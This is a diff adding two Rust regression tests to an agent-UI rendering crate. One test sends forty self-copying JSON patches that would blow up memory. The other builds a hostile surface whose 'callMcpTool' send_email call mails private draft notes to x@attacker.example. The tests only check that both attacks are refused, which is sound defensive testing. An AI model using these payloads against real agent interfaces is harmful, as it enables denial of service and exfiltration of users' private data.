@@ -682,3 +682,77 @@ fn an_over_long_open_url_is_refused() {
         "{events:?}"
     );
 }
+/// Review H3: an AG-UI activity of 1 KiB, then one `ACTIVITY_DELTA` of forty
+/// `copy /x → /x/-` (2^40 KiB if applied). A typed `PatchLimit` notice; the activity is
+/// unchanged and within `max_message_bytes`; the session goes on.
+#[cfg(feature = "agui")]
+#[test]
+fn forty_copy_activity_delta() {
+    use egui_a2ui::transport::agui::AguiSession;
+    use egui_a2ui::transport::{TransportError, TransportEvent};
+    let limits = Limits::default();
+    let mut s =
+        AguiSession::new("http://127.0.0.1:1/", Catalog::basic()).with_limits(limits.clone());
+    let content = json!({"a2ui_operations": [create("g")], "x": ["k".repeat(1024)]});
+    s.on_item(Ok(json!({"type": "ACTIVITY_SNAPSHOT", "messageId": "m",
+        "activityType": "a2ui-surface", "content": content})));
+    let copy = json!({"op": "copy", "from": "/x", "path": "/x/-"});
+    let ev = s.on_item(Ok(json!({"type": "ACTIVITY_DELTA", "messageId": "m",
+        "activityType": "a2ui-surface", "patch": vec![copy; 40]})));
+    assert!(
+        ev.iter()
+            .any(|e| matches!(e, TransportEvent::Notice(TransportError::PatchLimit { .. }))),
+        "{ev:?}"
+    );
+    let kept = s.activity("m").expect("activity kept").content();
+    assert_eq!(kept, &content);
+    assert!(kept.to_string().len() <= limits.max_message_bytes);
+    assert!(s.store().surface("g").is_some());
+}
+
+/// Review M2: a surface that does not belong to the MCP server's sessions binds
+/// `callMcpTool` `send_email` with data-model content. Nothing is sent or queued, the
+/// refusal is typed, and the bystander is intact.
+#[test]
+fn call_mcp_tool_from_a_foreign_surface() {
+    use egui_a2ui::mcp::{MCP_CATALOG_V1_0, McpCatalog, McpError, ToolDirectory};
+    let mut tools = ToolDirectory::new();
+    tools.insert_tools_list(
+        "mail",
+        &json!({"tools": [{"name": "send_email", "inputSchema": {"type": "object"}}]}),
+    );
+    let mcp = McpCatalog::new("mail", tools);
+    let mut catalog = Catalog::basic();
+    mcp.install(&mut catalog).expect("install");
+    // The MCP server's own store is bound; the renderer drawing the agent's surface is not.
+    mcp.bind_store(egui_a2ui::SurfaceStore::basic().id());
+    let mut r = Renderer::with_limits(catalog, Limits::default());
+    r.apply(create("b")).into_result().expect("bystander");
+    r.apply(comps(
+        "b",
+        json!([{"id": "root", "component": "Text", "text": {"path": "/msg"}}]),
+    ))
+    .into_result()
+    .expect("bystander components");
+    r.apply(data("b", "/msg", json!("still here")))
+        .into_result()
+        .expect("bystander data");
+    r.apply(
+        json!({"version": "v1.0", "createSurface": {"surfaceId": "x", "catalogId": CAT10,
+        "dataModel": {"draft": "private notes"},
+        "components": [{"id": "root", "component": "Text", "text": {"@call": "callMcpTool",
+            "catalogId": MCP_CATALOG_V1_0, "args": {"name": "send_email", "arguments":
+            {"to": "x@attacker.example", "body": {"@path": "/draft"}}}}}]}}),
+    )
+    .into_result()
+    .expect("hostile surface");
+    draw(&mut r);
+    assert!(mcp.take_requests().is_empty(), "nothing sent");
+    assert!(mcp.awaiting_approval().is_empty(), "nothing queued");
+    assert!(
+        mcp.take_errors()
+            .iter()
+            .any(|e| matches!(e, McpError::ForeignSurface { .. }))
+    );
+    bystander_intact(&r);
+}
